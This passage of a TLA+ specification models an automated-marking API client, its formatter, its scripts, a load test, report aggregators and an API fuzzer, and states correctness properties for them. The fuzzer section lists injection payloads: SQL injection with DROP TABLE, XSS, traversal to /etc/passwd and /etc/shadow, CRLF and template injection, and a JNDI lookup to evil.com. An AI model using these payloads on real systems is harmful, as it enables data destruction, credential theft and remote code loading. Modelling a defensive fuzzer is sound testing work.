           /\ Cardinality(files) <= MaxFiles
           /\ bench' = [bench EXCEPT
                           !.pc = "integration", !.todo = files, !.got = 0,
                           !.integration = {},
                           !.wellformed = Cardinality({f \in files : f.kind = "json"})]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, fuzz>>

\* the loop of lines 101-104 has no try: nothing is skipped
IntegrationSkips == {}

\* lines 101-104: one round of the for loop
BenchIntegrationFile ==
    /\ bench.pc = "integration"
    /\ \E f \in bench.todo :
           LET e == FileRaises(f.kind) IN
           bench' =
               IF e = "none"
               THEN [bench EXCEPT
                        !.todo = @ \ {f},
                        !.integration =
                            @ \cup {IF f.benchmark = None THEN f.stem ELSE f.benchmark},
                        !.got = @ + 1]
               ELSE IF e \in IntegrationSkips THEN [bench EXCEPT !.todo = @ \ {f}]
               ELSE [bench EXCEPT !.pc = "crashed", !.exc = e]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, fuzz>>

\* line 106: self.results["integration"] = integration_results
BenchIntegrationParsed ==
    /\ bench.pc = "integration" /\ bench.todo = {}
    /\ bench' = [bench EXCEPT !.pc = "ready", !.results = @ \cup {"integration"}]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, fuzz>>

\* the process is gone, at the end of main or after the traceback
BenchGone ==
    /\ bench.pc \in {"ready", "crashed"}
    /\ bench' = NoBench
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, fuzz>>

BenchNext ==
    \/ BenchNew
    \/ BenchLoadHardwareInfo
    \/ BenchParseIntegrationResults
    \/ BenchIntegrationFile
    \/ BenchIntegrationParsed
    \/ BenchGone

(***************************************************************************)
(* APIFuzzer (security/penetration-testing/api-fuzzing/fuzz_api.py)        *)
(***************************************************************************)
ENDPOINTS ==
    <<"/api/v1/submit", "/api/v1/grade", "/api/v1/feedback", "/api/v1/student",
      "/api/v1/course", "/api/v1/assignment">>

INJECTION_PAYLOADS ==
    <<"' OR '1'='1", "'; DROP TABLE students;--", "<script>alert('XSS')</script>",
      "../../../etc/passwd", "%0d%0aSet-Cookie:session=admin", "${7*7}", "{{7*7}}",
      "../../../../etc/shadow", "{{config}}", "${jndi:ldap://evil.com/a}">>

\* the verbs main uses in manual mode
ManualMethods == <<"GET", "POST">>
\* the verbs fuzz_endpoint knows, and one it does not
Supported == {"GET", "POST", "PUT", "DELETE"}
Verbs == Supported \cup {"PATCH"}

\* the payloads v with "<script>" in v.lower(), and those with "../" in them
ScriptPayloads == {"<script>alert('XSS')</script>"}
TraversalPayloads == {"../../../etc/passwd", "../../../../etc/shadow"}

\* no fuzzer runs. calls counts the fuzz_endpoint calls, unsupported those
\* with a verb fuzz_endpoint does not know, sent the HTTP requests issued
NoFuzz ==
    [pc |-> "none", mode |-> "none", request_count |-> 0, findings |-> <<>>,
     calls |-> 0, unsupported |-> 0, sent |-> 0, exit |-> NoInt, exc |-> "none"]

\* what a request comes back with: raised is the exception requests raises
\* ("none": a response); sql the number of SQL error texts in response.text,
\* reflects whether the payload is in it, sensitive the number of sensitive
\* patterns in it, leak whether it has one of traceback / exception / error /
\* stack, bare whether a security header is missing
FuzzReply(r, c, q, x, n, l, b) ==
    [raised |-> r, code |-> c, sql |-> q, reflects |-> x, sensitive |-> n, leak |-> l,
     bare |-> b]
FuzzReplies ==
    {FuzzReply("Timeout", 0, 0, FALSE, 0, FALSE, FALSE),
     FuzzReply("ConnectionError", 0, 0, FALSE, 0, FALSE, FALSE),
     FuzzReply("TooManyRedirects", 0, 0, FALSE, 0, FALSE, FALSE),
     FuzzReply("none", 200, 0, FALSE, 0, FALSE, FALSE),
     FuzzReply("none", 200, 0, FALSE, 0, FALSE, TRUE),
     FuzzReply("none", 200, 0, TRUE, 0, FALSE, FALSE),
     FuzzReply("none", 200, 1, FALSE, 0, TRUE, FALSE),
     FuzzReply("none", 200, 2, TRUE, 1, TRUE, FALSE),
     FuzzReply("none", 200, 0, FALSE, 1, FALSE, FALSE),
     FuzzReply("none", 404, 0, FALSE, 0, TRUE, FALSE),
     FuzzReply("none", 500, 0, FALSE, 0, TRUE, FALSE),
     FuzzReply("none", 500, 0, FALSE, 0, FALSE, FALSE)}

Finding(sev, type) == [severity |-> sev, type |-> type]

\* the str values of the dict data
StrValues(data) == {data[k] : k \in DOMAIN data}

\* analyze_response, lines 92-172: the findings one response adds; count is
\* self.request_count
AnalyzeResponse(data, resp, count) ==
    Repeat(Finding("CRITICAL", "SQL Injection"), resp.sql)
    \o Repeat(Finding("HIGH", "XSS"),
              IF resp.reflects
              THEN Cardinality({k \in DOMAIN data : data[k] \in ScriptPayloads})
              ELSE 0)
    \o Repeat(Finding("CRITICAL", "Path Traversal"),
              IF StrValues(data) \cap TraversalPayloads # {} THEN resp.sensitive ELSE 0)
    \o (IF resp.code >= 500 /\ resp.leak
        THEN <<Finding("MEDIUM", "Information Disclosure")>> ELSE <<>>)
    \o (IF resp.code = 200 /\ resp.bare /\ count = 1
        THEN <<Finding("LOW", "Missing Security Headers")>> ELSE <<>>)

\* lines 55-90: the findings one call adds
FindingsOf(data, resp, count) ==
    IF resp.raised = "Timeout" THEN <<Finding("MEDIUM", "Timeout")>>
    ELSE IF resp.raised = "ConnectionError" THEN <<>>
    ELSE IF resp.raised # "none" THEN <<Finding("HIGH", "Exception")>>
    ELSE AnalyzeResponse(data, resp, count)

\* fuzz_endpoint(endpoint, method, data), lines 50-90
FuzzEndpoint(f, endpoint, method, data) ==
    LET counted == [f EXCEPT !.request_count = @ + 1, !.calls = @ + 1] IN
    IF method \notin Supported
    THEN fuzz' = [counted EXCEPT !.unsupported = @ + 1]
    ELSE \E resp \in FuzzReplies :
             LET new == FindingsOf(data, resp, counted.request_count) IN
             /\ Len(f.findings) + Len(new) <= MaxFindings
             /\ fuzz' = [counted EXCEPT !.sent = @ + 1, !.findings = @ \o new]

\* main, lines 262-279: fuzzer is the module's global APIFuzzer
FuzzMain ==
    /\ Quiet
    /\ \E mode \in {"manual", "atheris"} : fuzz' = [NoFuzz EXCEPT !.pc = mode, !.mode = mode]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, bench>>

\* the calls of the three nested loops of lines 268-273
ManualCalls == Len(ENDPOINTS) * Len(ManualMethods) * Len(INJECTION_PAYLOADS)

\* lines 268-273: the next round of the innermost loop
FuzzManual ==
    /\ fuzz.pc = "manual" /\ fuzz.calls < ManualCalls
    /\ LET perEndpoint == Len(ManualMethods) * Len(INJECTION_PAYLOADS)
           endpoint == ENDPOINTS[(fuzz.calls \div perEndpoint) + 1]
           method == ManualMethods[((fuzz.calls % perEndpoint) \div Len(INJECTION_PAYLOADS)) + 1]
           payload == INJECTION_PAYLOADS[(fuzz.calls % Len(INJECTION_PAYLOADS)) + 1]
       IN  FuzzEndpoint(fuzz, endpoint, method, [input |-> payload, id |-> payload])
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, bench>>

\* TestOneInput, lines 221-259, and any other caller of fuzz_endpoint
FuzzOneInput ==
    /\ fuzz.pc = "atheris" /\ fuzz.calls < MaxInputs
    /\ \E e \in {1, Len(ENDPOINTS)}, method \in Verbs, i \in {3, 4, 9} :
           FuzzEndpoint(fuzz, ENDPOINTS[e], method,
                        [id |-> INJECTION_PAYLOADS[i], data |-> INJECTION_PAYLOADS[1]])
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, bench>>

\* the keys of by_severity, line 184
SeverityKeys == {"CRITICAL", "HIGH", "MEDIUM", "LOW"}

\* mutant: only CRITICAL findings end the run with status 1
ReportExit_critical_only(findings) ==
    IF \E i \in DOMAIN findings : findings[i].severity \in {"CRITICAL"} THEN 1 ELSE 0

\* lines 212-213: sys.exit(1) if by_severity["CRITICAL"] or by_severity["HIGH"]
ReportExit(findings) ==
    IF \E i \in DOMAIN findings : findings[i].severity \in {"CRITICAL", "HIGH"} THEN 1 ELSE 0

\* generate_report, lines 174-213, after the loops of manual mode
FuzzGenerateReport ==
    /\ fuzz.pc = "manual" /\ fuzz.calls = ManualCalls
    /\ fuzz' = IF \E i \in DOMAIN fuzz.findings : fuzz.findings[i].severity \notin SeverityKeys
               THEN [fuzz EXCEPT !.pc = "crashed", !.exc = "KeyError"]
               ELSE [fuzz EXCEPT !.pc = "exited", !.exit = <<ReportExit(fuzz.findings)>>]
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, bench>>

\* the process is gone (the coverage-guided mode ends when it is stopped)
FuzzGone ==
    /\ fuzz.pc \in {"exited", "crashed", "atheris"}
    /\ fuzz' = NoFuzz
    /\ UNCHANGED <<clientvars, plugin, quick, example, locust, secrep, bench>>

FuzzNext ==
    \/ FuzzMain
    \/ FuzzManual
    \/ FuzzOneInput
    \/ FuzzGenerateReport
    \/ FuzzGone

(***************************************************************************)
(* All programs together                                                   *)
(***************************************************************************)
Init ==
    /\ pc = "idle"
    /\ op = "none"
    /\ file = "regular"
    /\ student_id = "student001"
    /\ wait = TRUE
    /\ poll_interval = DefaultPollInterval
    /\ timeout_arg = NoInt
    /\ self_timeout \in ClientTimeouts
    /\ clock = 0
    /\ start_time = 0
    /\ timeout = 0
    /\ tma_id = None
    /\ job_id = None
    /\ status_data = NoData
    /\ status = None
    /\ net = <<>>
    /\ iters = 0
    /\ slept = 0
    /\ outcome = "none"
    /\ err = NoErr
    /\ retval = None
    /\ result = <<>>
    /\ reply = <<>>
    /\ last_fetch = <<>>
    /\ plugin = NoPlugin
    /\ quick = NoQuick
    /\ example = NoExample
    /\ locust = NoLocust
    /\ secrep = NoSecrep
    /\ bench = NoBench
    /\ fuzz = NoFuzz

Next ==
    \/ InvokeUploadTma
    \/ InvokeSubmitForMarking
    \/ InvokeGetJobStatus
    \/ InvokeGetResults
    \/ InvokeWaitForCompletion
    \/ InvokeMarkTma
    \/ UploadTma
    \/ SubmitForMarking
    \/ GetJobStatus
    \/ GetResults
    \/ WfcEnter
    \/ WfcCheck
    \/ WfcPoll
    \/ WfcSleep
    \/ ReturnToCaller
    \/ NewPlugin
    \/ FormatFeedback
    \/ DropPlugin
    \/ QuickNext
    \/ ExampleUsage
    \/ ExampleMain
    \/ ExampleEnd
    \/ ExampleGone
    \/ LocustOnStart
    \/ SubmitTma
    \/ CheckStatus
    \/ GetFeedback
    \/ LocustStop
    \/ SecNext
    \/ BenchNext
    \/ FuzzNext

Spec == Init /\ [][Next]_vars

\* the quickstart script alone; the interpreter takes the next step of the
\* script whenever there is one
QuickLive == Init /\ [][QuickNext]_vars /\ WF_vars(QuickNext)

TypeOK ==
    /\ pc \in {"idle", "upload", "submit", "status", "fetch", "wfc_enter", "wfc_check",
               "wfc_poll", "wfc_sleep", "done"}
    /\ clock \in Nat /\ iters \in 0..MaxPolls /\ slept \in Nat
    /\ outcome \in {"none", "returned", "AwapAPIError", "AwapTimeoutError",
                    "FileNotFoundError", "IsADirectoryError", "JSONDecodeError",
                    "KeyError"}

(***************************************************************************)
(* Properties                                                              *)
(***************************************************************************)
Kinds(log) == [i \in DOMAIN log |-> log[i].kind]
PollCount(log) == Cardinality({i \in DOMAIN log : log[i].kind = "poll"})
Max(a, b) == IF a >= b THEN a ELSE b

\* wait_for_completion is running or has run in this invocation
Waiting == op \in {"wait_for_completion", "mark_tma"}

\* C1: whenever wait_for_completion returns the terminal status, at most
\* timeout + poll_interval seconds have passed since it was invoked, however
\* long the status requests blocked (timeout read as the deadline the loop
\* itself uses, line 266).
C1_ReturnsWithinDeadline ==
    (op = "wait_for_completion" /\ outcome = "returned")
        => clock - start_time <= timeout + poll_interval

\* C2: when poll_interval is larger than timeout, the sleep between two polls
\* never runs past the deadline: the loop is back at its deadline check no
\* later than start_time + timeout (or at once, when the poll itself already
\* ran past it), so AwapTimeoutError is not delayed by a full poll interval.
C2_SleepStopsAtDeadline ==
    [][(pc = "wfc_sleep" /\ pc' = "wfc_check" /\ poll_interval > timeout)
          => clock' <= Max(clock, start_time + timeout)]_vars

\* C3: when a poll of wait_for_completion has reported 'failed', the call has
\* raised AwapAPIError at that poll (the loop is left: no sleep, no further
\* poll), and the message carries the error text of that response unchanged.
C3_FailedPollRaises ==
    (Waiting /\ status = "failed")
        => /\ pc = "done"
           /\ outcome = "AwapAPIError"
           /\ net[Len(net)].kind = "poll"
           /\ ("error" \in DOMAIN status_data
                  => err.message = <<"Job failed: ", status_data.error>>)

C3_Witness ==
    /\ op = "wait_for_completion" /\ status = "failed"
    /\ "error" \in DOMAIN status_data /\ status_data.error = "disk full"
    /\ outcome = "AwapAPIError" /\ iters = 2

\* C4: once upload_tma has run on a path that does not exist, the call has
\* raised FileNotFoundError and no request at all was issued; the same holds
\* of mark_tma, which then issues no upload, submit, poll or fetch.
C4_MissingFileNoRequest ==
    (op \in {"upload_tma", "mark_tma"} /\ file = "missing" /\ pc # "upload")
        => /\ pc = "done"
           /\ outcome = "FileNotFoundError"
           /\ net = <<>>

C4_Witness ==
    /\ op = "mark_tma" /\ file = "missing" /\ pc = "done"
    /\ outcome = "FileNotFoundError"

\* C5: wait_for_completion ends in exactly one of three ways: it returns
\* 'completed' right after a poll that reported it, it raises AwapAPIError for
\* a 'failed' poll or a failed request, or it raises AwapTimeoutError from its
\* elapsed > timeout check; every other status sends it on to the next
\* iteration.
C5_ThreeOutcomes ==
    /\ (op = "wait_for_completion" /\ pc = "done")
          => \/ /\ outcome = "returned" /\ retval = "completed"
                /\ status = "completed" /\ net[Len(net)].kind = "poll"
             \/ /\ outcome = "AwapAPIError"
                /\ (status = "failed" \/ net[Len(net)].failed)
             \/ /\ outcome = "AwapTimeoutError"
                /\ clock - start_time > timeout
    /\ (Waiting /\ pc = "wfc_sleep") => status \notin {"completed", "failed"}

\* C6: once a poll has reported 'completed' or 'failed', or the deadline check
\* has fired, no further status poll is issued in that run, and the two kinds
\* of terminal state never both occur in it.
TerminalSeen ==
    Waiting /\ (status \in {"completed", "failed"} \/ outcome = "AwapTimeoutError")

C6_NoPollAfterTerminal ==
    [][TerminalSeen
          => /\ PollCount(net') <= PollCount(net)
             /\ ~(status \in {"completed", "failed"} /\ outcome = "AwapTimeoutError")]_vars

C6_Witness ==
    /\ op = "mark_tma" /\ status = "completed" /\ pc = "done"
    /\ PollCount(net) = 3 /\ net[Len(net)].kind = "fetch"

\* C7: in mark_tma the requests go out in the order upload, submit, polls,
\* fetch; polls occur only with wait = True; the results request is the last
\* one, comes after at least one poll, and is issued only when the most recent
\* poll reported 'completed'.  get_results on its own issues its one request
\* and no poll.
C7_WorkflowOrder ==
    /\ op = "mark_tma"
          => \A i \in DOMAIN net :
                /\ (net[i].kind = "upload") = (i = 1)
                /\ (net[i].kind = "submit") = (i = 2)
                /\ net[i].kind = "poll" => wait
                /\ net[i].kind = "fetch"
                      => /\ i = Len(net) /\ i >= 4 /\ wait
                         /\ net[i - 1].kind = "poll"
                         /\ status = "completed"
                         /\ outcome # "AwapTimeoutError"
    /\ (op = "get_results" /\ pc = "done") => Kinds(net) = <<"fetch">>

C7_Witness ==
    /\ op = "mark_tma" /\ wait /\ outcome = "returned"
    /\ Kinds(net) = <<"upload", "submit", "poll", "poll", "fetch">>

\* C8: mark_tma with wait = False issues exactly the upload and the submit
\* request, never a poll or a fetch, and returns the MarkingResult made of the
\* handle the upload returned, the caller's student_id and the defaults.
C8_NoWaitPartialResult ==
    (op = "mark_tma" /\ ~wait)
        => /\ \A i \in DOMAIN net : net[i].kind \in {"upload", "submit"}
           /\ outcome = "returned"
                 => /\ Kinds(net) = <<"upload", "submit">>
                    /\ net[2].id = tma_id
                    /\ result = <<[tma_id |-> tma_id, student_id |-> student_id,
                                   score |-> 0, grade |-> "",
                                   feedback |-> [summary |-> "", strengths |-> <<>>,
                                                 areas_for_improvement |-> <<>>,
                                                 detailed_comments |-> <<>>],
                                   marked_at |-> ""]>>

C8_Witness ==
    /\ op = "mark_tma" /\ ~wait /\ outcome = "returned"
    /\ tma_id = "x9" /\ student_id = "student002"

\* C9: a successful upload_tma, submit_for_marking, get_job_status or
\* get_results has issued exactly one request, of its own kind; and
\* wait_for_completion has issued exactly one status request for every loop
\* iteration that passed the deadline check.
C9_OneRequestPerCall ==
    /\ (outcome = "returned" /\ op = "upload_tma") => Kinds(net) = <<"upload">>
    /\ (outcome = "returned" /\ op = "submit_for_marking") => Kinds(net) = <<"submit">>
    /\ (outcome = "returned" /\ op = "get_job_status") => Kinds(net) = <<"poll">>
    /\ (outcome = "returned" /\ op = "get_results") => Kinds(net) = <<"fetch">>
    /\ op = "wait_for_completion"
          => /\ \A i \in DOMAIN net : net[i].kind = "poll"
             /\ Len(net) = IF pc = "wfc_poll" THEN iters - 1 ELSE iters

C9_Witness ==
    /\ op = "wait_for_completion" /\ pc = "done" /\ iters = 3 /\ Len(net) = 3
    /\ outcome = "returned"

\* C10: a request that failed is the last request of its invocation: the call
\* has ended with the AwapAPIError of that request, so the request is not
\* repeated, the poll loop is left, and no later step of mark_tma is issued.
C10_NoRetry ==
    \A i \in DOMAIN net :
        net[i].failed
            => /\ i = Len(net)
               /\ pc = "done"
               /\ outcome = "AwapAPIError"
               /\ err.message[1] \in {"Request failed: ", "API request failed: "}

C10_Witness ==
    /\ op = "mark_tma" /\ pc = "done" /\ Len(net) = 4
    /\ net[4].kind = "poll" /\ net[4].failed

\* the most recent request of this call, and what it came back with
LastRequest == net[Len(net)]
Answered == reply # <<>> /\ ~RequestRaises(reply[1]) /\ reply[1].json
TypedErrors == {"FileNotFoundError", "AwapAPIError", "AwapTimeoutError"}

\* C11: every failure of an operation reaches the caller as FileNotFoundError,
\* AwapAPIError or AwapTimeoutError; in particular a 2xx response that is
\* not JSON and a results body lacking a required field end in AwapAPIError.
\* (Paths that exist but cannot be opened are left aside.)
C11_TypedErrors ==
    (pc = "done" /\ outcome # "returned" /\ file # "directory")
        => outcome \in TypedErrors

\* C12: upload_tma and submit_for_marking never return an absent or empty
\* handle: a successful response without tma_id (job_id), or with an empty
\* one, ends the call in AwapAPIError, and every handle mark_tma passes on to
\* a later request is non-empty.
NoHandle == {None, ""}

C12_HandlesNonEmpty ==
    /\ (op \in {"upload_tma", "submit_for_marking"} /\ outcome = "returned")
          => retval \notin NoHandle
    /\ op = "mark_tma"
          => \A i \in DOMAIN net : net[i].kind # "upload" => net[i].id \notin NoHandle
    /\ (Answered /\ LastRequest.kind = "upload"
           /\ Get(reply[1].body, "tma_id", "") \in NoHandle)
          => (pc = "done" /\ outcome = "AwapAPIError")
    /\ (Answered /\ LastRequest.kind = "submit"
           /\ Get(reply[1].body, "job_id", "") \in NoHandle)
          => (pc = "done" /\ outcome = "AwapAPIError")

C12_Witness ==
    /\ op = "mark_tma" /\ Answered /\ LastRequest.kind = "submit"
    /\ "job_id" \in DOMAIN reply[1].body /\ reply[1].body.job_id = ""
    /\ outcome = "AwapAPIError"

\* C13: a request that failed in the transport (a transport timeout among
\* them) ends the call in AwapAPIError, never in AwapTimeoutError;
\* AwapTimeoutError is raised only by the deadline check of
\* wait_for_completion, with elapsed > timeout; and neither of the two classes
\* is a subclass of the other, both being subclasses of AwapError.
C13_TransportTimeoutIsApiError ==
    /\ (net # <<>> /\ LastRequest.failed)
          => (outcome = "AwapAPIError" /\ ~IsSubclass(outcome, "AwapTimeoutError"))
    /\ outcome = "AwapTimeoutError"
          => /\ Waiting /\ clock - start_time > timeout
             /\ (net = <<>> \/ ~LastRequest.failed)
             /\ ~IsSubclass(outcome, "AwapAPIError")
    /\ IsSubclass("AwapAPIError", "AwapError")
    /\ IsSubclass("AwapTimeoutError", "AwapError")

C13_Witness ==
    /\ op = "wait_for_completion" /\ pc = "done" /\ iters = 2
    /\ LastRequest.failed /\ reply[1].exc
    /\ clock - start_time >= TransportTimeout
    /\ outcome = "AwapAPIError"

\* C14: when a request was answered with a 4xx or 5xx status, the
\* AwapAPIError raised carries that status code; status_code is None only
\* when the transport failed without a response.
C14_StatusCodeCarried ==
    /\ (reply # <<>> /\ ~reply[1].exc /\ RaiseForStatus(reply[1]))
          => (outcome = "AwapAPIError" /\ err.status_code = <<reply[1].code>>)
    /\ (reply # <<>> /\ reply[1].exc)
          => (outcome = "AwapAPIError" /\ err.status_code = NoInt)

\* C15: the deadline of wait_for_completion is the client's timeout exactly
\* when the caller gave no timeout, and is the caller's value, 0 included,
\* whenever one was given.
C15_DeadlineAsGiven ==
    (op = "wait_for_completion" /\ pc \notin {"wfc_enter", "idle"})
        => timeout = IF timeout_arg = NoInt THEN self_timeout ELSE timeout_arg[1]

\* C16: a get_results that directly follows a successful get_results for the
\* same tma_id, and is answered with the same body, returns an equal
\* MarkingResult, whatever the time either call took, and the client's own
\* state is as it was.
SameFetchAgain ==
    /\ op = "get_results" /\ outcome = "returned" /\ last_fetch # <<>>
    /\ last_fetch[1].tma_id = tma_id
    /\ last_fetch[1].body = reply[1].body

C17_JobIdDistinct ==
    (op \in {"submit_for_marking", "mark_tma"} /\ Truthy(job_id)) => job_id # tma_id

\* C17 (amended): the job id submit_for_marking obtains is the job_id of the
\* service's response, unchanged and non-empty; the client does not compare it
\* with the tma_id.
SubmitSucceeded ==
    /\ op \in {"submit_for_marking", "mark_tma"}
    /\ net # <<>> /\ LastRequest.kind = "submit"
    /\ pc # "submit" /\ outcome \in {"none", "returned"}

C17_JobIdFromResponse ==
    SubmitSucceeded
        => /\ "job_id" \in DOMAIN reply[1].body
           /\ job_id = reply[1].body.job_id
           /\ Truthy(job_id)
           /\ (op = "submit_for_marking" => retval = job_id)

C17_Witness ==
    /\ SubmitSucceeded /\ op = "mark_tma" /\ wait
    /\ job_id = "t1" /\ tma_id = "t1"

\* C18: the MarkingResult get_results returns has the tma_id, student_id,
\* score, grade and marked_at of the results response, and the summary and
\* the three lists of its feedback, '' or the empty list standing in for an
\* absent one; in mark_tma this follows a poll that reported 'completed'.
FeedbackOf(body) == IF "feedback" \in DOMAIN body THEN body.feedback ELSE EmptyDict

C18_ResultMatchesResponse ==
    (net # <<>> /\ LastRequest.kind = "fetch" /\ outcome = "returned")
        => LET b == reply[1].body
               r == result[1]
               f == FeedbackOf(b)
           IN  /\ r.tma_id = b.tma_id /\ r.student_id = b.student_id
               /\ r.score = b.score /\ r.grade = b.grade
               /\ r.marked_at = b.marked_at
               /\ r.feedback.summary = (IF "summary" \in DOMAIN f THEN f.summary ELSE "")
               /\ r.feedback.strengths =
                      (IF "strengths" \in DOMAIN f THEN f.strengths ELSE <<>>)
               /\ r.feedback.areas_for_improvement =
                      (IF "areas_for_improvement" \in DOMAIN f
                       THEN f.areas_for_improvement ELSE <<>>)
               /\ r.feedback.detailed_comments =
                      (IF "detailed_comments" \in DOMAIN f
                       THEN f.detailed_comments ELSE <<>>)
               /\ (op = "mark_tma" => status = "completed")

C18_Witness ==
    /\ op = "mark_tma" /\ outcome = "returned" /\ status = "completed"
    /\ LastRequest.kind = "fetch"
    /\ result[1].score = 85 /\ result[1].grade = "B+"
    /\ result[1].feedback.strengths = <<"clear">>

\* C19: format_feedback gives the output of the formatter its configured
\* format names among markdown, html, latex, plain and json, and the output
\* of the markdown formatter for any other configured value and when no format
\* is configured.
Formatted == plugin.pc = "formatted"

C19_DispatchWithMarkdownFallback ==
    Formatted
        => LET ft == plugin.format_type
               r == plugin.results[1]
               expected ==
                   IF ft = "json" THEN [exc |-> "none", out |-> FormatJson(r)]
                   ELSE IF TextRaises(r) THEN [exc |-> "KeyError", out |-> <<>>]
                   ELSE IF ft = "html" THEN [exc |-> "none", out |-> FormatHtml(r)]
                   ELSE IF ft = "latex" THEN [exc |-> "none", out |-> FormatLatex(r)]
                   ELSE IF ft = "plain" THEN [exc |-> "none", out |-> FormatPlain(r)]
                   ELSE [exc |-> "none", out |-> FormatMarkdown(r)]
           IN  /\ plugin.exc = expected.exc
               /\ plugin.out = expected.out
               /\ (plugin.config = <<>> \/ "format" \notin DOMAIN plugin.config[1])
                      => ft = "markdown"

C19_Witness ==
    /\ Formatted /\ plugin.format_type = "xml" /\ plugin.exc = "none"
    /\ plugin.out = FormatMarkdown(SampleResults)
    /\ plugin.out # FormatPlain(SampleResults)

\* C20: reading back the text the json formatter produced gives a record equal
\* to the input, and the input record is as it was before the call.
C20_JsonRoundTrip ==
    (Formatted /\ plugin.format_type = "json")
        => /\ plugin.exc = "none"
           /\ JsonLoads(plugin.out) = plugin.results[1]
           /\ plugin.after = plugin.results

C20_Witness ==
    /\ Formatted /\ plugin.format_type = "json"
    /\ plugin.results = <<SampleResults>>
    /\ Len(plugin.out) > 100

\* C21: when the input record lacks a field the text formatters read, the
\* markdown, html, latex and plain formatters return text, with the empty
\* string in the place of the missing field, and raise nothing.
TextFormats == {"markdown", "html", "latex", "plain"}

C21_MissingFieldSubstituted ==
    (Formatted /\ FormatterFor(plugin.format_type) \in TextFormats
        /\ TextRaises(plugin.results[1]))
        => (plugin.exc = "none" /\ plugin.out # <<>>)

\* C24: in wait_for_completion polls and sleeps alternate: when the k-th status
\* request goes out the loop has slept k - 1 times poll_interval, every status
\* request has been answered before the next step is taken, and after a poll
\* that ended the loop (terminal status, or an error) nothing more is slept.
PollEndedLoop ==
    /\ PollCount(net) > 0
    /\ pc \in {"fetch", "done"}
    /\ outcome # "AwapTimeoutError"

C24_PollsAndSleepsAlternate ==
    Waiting
        => /\ slept = poll_interval * (IF pc = "wfc_sleep" \/ PollEndedLoop
                                       THEN PollCount(net) - 1
                                       ELSE PollCount(net))
           /\ pc = "wfc_sleep" => status \notin {"completed", "failed"}
           /\ (pc \in {"wfc_check", "wfc_sleep"} /\ PollCount(net) > 0)
                  => (reply # <<>> /\ LastRequest.kind = "poll" /\ ~LastRequest.failed)

C24_Witness ==
    /\ op = "wait_for_completion" /\ pc = "done" /\ outcome = "returned"
    /\ PollCount(net) = 3 /\ slept = 2 * poll_interval /\ status = "completed"

\* C27: the quickstart script's wait_for_results always terminates: once
\* entered, it returns the results or raises.
QuickCount(kind) ==
    Cardinality({i \in DOMAIN quick.reqs : quick.reqs[i].kind = kind})

C27_WaitForResultsTerminates ==
    (quick.pc = "loop") ~> (quick.pc \in {"display", "exited"})

\* the rest of C27, which holds: at most TIMEOUT / 5 status requests, the
\* results requested at most once and only after a poll reported completed
QuickPollsBounded ==
    /\ QuickCount("poll") <= TIMEOUT \div QuickSleep
    /\ QuickCount("fetch") <= 1
    /\ QuickCount("fetch") = 1 => quick.status = "completed"
    /\ quick.pc = "sleep" => quick.status \notin {"completed", "failed"}

\* C28: in both workflow drivers a status poll is only issued for a non-empty
\* job id: every status request of mark_tma and of the quickstart script
\* carries a job id that is neither absent nor empty.
C28_PollsOnlyReturnedJob ==
    /\ \A i \in DOMAIN quick.reqs :
           quick.reqs[i].kind = "poll" => quick.reqs[i].id \notin NoHandle
    /\ op = "mark_tma"
           => \A i \in DOMAIN net : net[i].kind = "poll" => net[i].id \notin NoHandle

\* C22: in both example scripts every failure of a workflow step ends the
\* process with a non-zero exit status after a message on the error stream,
\* and the .feedback.json file is written only when all steps succeeded.
AllStepsSucceeded(log) ==
    /\ log # <<>> /\ log[Len(log)].kind = "fetch"
    /\ \A i \in DOMAIN log : ~log[i].failed

FailureReported(run) == run.exit = <<1>> /\ run.stderr # "" /\ ~run.saved

C22_FailuresExitNonZero ==
    /\ (example.pc = "exited" /\ example.outcome # "none")
           => /\ example.saved => (example.outcome = "returned"
                                    /\ AllStepsSucceeded(example.net))
              /\ example.outcome # "returned" => FailureReported(example)
              /\ (\E i \in DOMAIN example.net : example.net[i].failed)
                     => FailureReported(example)
    /\ (quick.pc = "exited" /\ quick.stderr # "Usage")
           => /\ quick.saved => (AllStepsSucceeded(quick.reqs) /\ quick.status = "completed")
              /\ ~quick.saved => FailureReported(quick)
    /\ quick.pc # "exited" => ~quick.saved
    /\ example.pc # "exited" => ~example.saved

C22_Witness ==
    /\ example.pc = "exited" /\ example.outcome = "AwapAPIError"
    /\ Len(example.net) = 3 /\ example.net[3].failed

\* C29: in the load test's TMAWorkflow, check_status and get_feedback only
\* query the submission id the submit_tma of the same round obtained: after
\* a submit_tma that failed or obtained no submission_id they issue no request.
C29_QueriesOnlyThisRound ==
    \A i \in DOMAIN locust.queries :
        locust.issued \notin NoHandle /\ locust.queries[i] = locust.issued

\* C23: both report aggregators skip an unreadable or malformed input file and
\* go on: no loader ends in an exception, and when a loader has visited its
\* files every well-formed one has been loaded.
LoaderDone(gen, loaders) == gen.pc \in loaders /\ gen.todo = {}

C23_MalformedFilesSkipped ==
    /\ secrep.pc # "crashed" /\ bench.pc # "crashed"
    /\ LoaderDone(secrep, {"audit", "text"}) => secrep.got = secrep.wellformed
    /\ LoaderDone(bench, {"integration"})
           => (bench.got = bench.wellformed
               /\ Cardinality(bench.integration) = bench.wellformed)

\* C25: whatever has been loaded, generate_summary gives tests_passed +
\* tests_failed = total_tests, total_findings = critical + high + medium + low
\* findings, and a pass_rate of 0 when no test was loaded.
C25_SummaryAddsUp ==
    secrep.pc \in {"ready", "audit", "text", "exited"}
        => LET summary == GenerateSummary(secrep) IN
           /\ summary.tests_passed + summary.tests_failed = summary.total_tests
           /\ summary.tests_passed >= 0 /\ summary.tests_failed >= 0
           /\ summary.total_findings =
                  summary.critical_findings + summary.high_findings
                  + summary.medium_findings + summary.low_findings
           /\ summary.total_tests = 0 => summary.pass_rate = 0

C25_Witness ==
    /\ secrep.pc = "ready"
    /\ Len(secrep.test_results) = 3 /\ Passed(secrep.test_results) = 1
    /\ Len(secrep.findings.medium) = 1 /\ Len(secrep.findings.high) = 2

\* C26: the security report's exit code is 0 only if every loaded test result
\* has status PASS.
C26_ExitZeroOnlyIfAllPass ==
    (secrep.pc = "exited" /\ secrep.exit = <<0>>)
        => \A i \in DOMAIN secrep.test_results : secrep.test_results[i] = "PASS"

